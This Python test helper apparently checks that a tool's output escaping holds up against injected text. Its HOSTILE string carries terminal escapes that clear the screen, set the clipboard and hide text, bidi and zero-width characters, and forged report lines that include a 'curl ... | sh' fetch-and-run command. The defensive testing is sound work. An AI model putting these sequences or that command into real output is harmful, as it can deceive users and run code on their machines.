"""Texts as an attacker would put them into a name, a tag, a parameter or an answer, and where they end."""

from __future__ import annotations

import re
from collections.abc import Iterator, Mapping
from dataclasses import fields, is_dataclass, replace
from enum import Enum
from typing import Any

from opskit.escaping import OWN_STYLES

FORGED = "FORGED"
HOSTILE = (
    "x\033[2J\033]52;c;Zm9v\a\x9b31m\x85\u202e\u2066\u200b\u200d\ufeff\u3164\r\b\0\x7f\ud800\u2028\u2029\x0b\x0c"
    f"\033[8m\033[0m\n\n{FORGED}\nROOT CAUSE  NET999  {FORGED}.\n\nFIX  {FORGED}\n  curl {FORGED} | sh\n"
    + f" {FORGED}"
    * 60
)
"""Escapes that erase, hide and set the clipboard, C1, bidi, zero width, and lines that look like ours.
The words at the end let a line be wrapped before one of them."""


def problems(output: str) -> list[str]:
    """What a terminal would act on or hide in an output, and lines that were forged."""
    plain = re.sub(OWN_STYLES, "", output)
    acting = sorted(
        {repr(c) for c in set(plain) if not (c.isprintable() or c == "\n") or c == "\u3164"}
    )
    forged = re.findall(
        rf"^(?: {{0,3}})(?:curl |ROOT CAUSE  NET999|FIX  )?{FORGED}.*", plain, re.MULTILINE
    )
    return acting + forged


def poisoned(value: Any, poison: str = HOSTILE) -> Iterator[Any]:
    """The value once for every text in it, with that text made hostile."""
    if isinstance(value, Enum):
        return
    if isinstance(value, str):
        yield value + poison
    elif is_dataclass(value) and not isinstance(value, type):
        for field in fields(value):
            for changed in poisoned(getattr(value, field.name), poison):
                yield replace(value, **{field.name: changed})
    elif isinstance(value, Mapping):
        for key, item in value.items():
            rest = {k: v for k, v in value.items() if k != key}
            yield from ({**rest, changed: item} for changed in poisoned(key, poison))
            yield from ({**rest, key: changed} for changed in poisoned(item, poison))
    elif isinstance(value, (tuple, list, frozenset)):
        items = list(value)
        for index, item in enumerate(items):
            for changed in poisoned(item, poison):
                yield type(value)((*items[:index], changed, *items[index + 1 :]))


def poisoned_everywhere(value: Any, poison: str = HOSTILE) -> Any:
    """The value with every text in it made hostile."""
    if isinstance(value, Enum):
        return value
    if isinstance(value, str):
        return value + poison
    if is_dataclass(value) and not isinstance(value, type):
        changes = {
            f.name: poisoned_everywhere(getattr(value, f.name), poison) for f in fields(value)
        }
        return replace(value, **changes)
    if isinstance(value, Mapping):
        return {
            poisoned_everywhere(k, poison): poisoned_everywhere(v, poison) for k, v in value.items()
        }
    if isinstance(value, (tuple, list, frozenset)):
        return type(value)(poisoned_everywhere(item, poison) for item in value)
    return value
